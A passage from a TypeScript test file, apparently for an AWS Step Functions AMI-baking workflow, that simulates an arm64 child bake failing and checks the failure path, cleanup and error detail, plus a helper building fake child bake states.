      const { Name, Input } = input as { Name: string; Input: { architecture: Architecture } };
      if (Input.architecture === 'x86_64') return happyFakes().BakeArchitecture?.(input);
      const error = named(
        'States.TaskFailed',
        describedChildFailure({
          executionArn: `arn:aws:states:${REGION}:123456789012:execution:ami-bake:${Name}`,
          name: Name,
          input: Input,
          error: 'BakeFailed',
          cause: JSON.stringify({
            WaitForBuilder: { Error: 'BootstrapFailedError', Cause: 'exit 3: yum failed' },
          }),
        }),
      );
      throw error;
    };

    // Act
    const result = await run({ ...unreached(), ResolveRecipe: request, BakeArchitecture: failed });

    // Assess
    expect(result.status).toBe('failed');
    expect(result.visited).toEqual([
      'ResolveRecipe',
      'Announce',
      'PublishBakeStarted',
      'Fanout',
      'BakeArchitectures',
      ...FAILED_END,
    ]);
    expect(result.calls.Cleanup?.[0]).toMatchObject({ context: { architectures: CHILDREN } });
    expect(result.failedDetail).toMatchObject({
      bakeId: BAKE_ID,
      architecture: 'arm64',
      stage: 'WaitForBuilder',
      error: 'BootstrapFailedError',
      cause: 'exit 3: yum failed',
    });
  });
});

/** A child's final state: a whole one-architecture bake, as its execution's Output has it. */
function childState(bakeId: string, architecture: Architecture): ChildState {
  return {
    bakeId,
    context: { ...context, bakeId, architecture, group: { bakeId: BAKE_ID } },
    image: { imageId: `ami-0${architecture.replace('_', '')}0000001`, region: REGION, at: at(12) },
    imageReady: {
      imageId: `ami-0${architecture.replace('_', '')}0000001`,
      snapshotIds: [`snap-${architecture}`],
      at: at(20),
    },
    copies: [],
  };
}
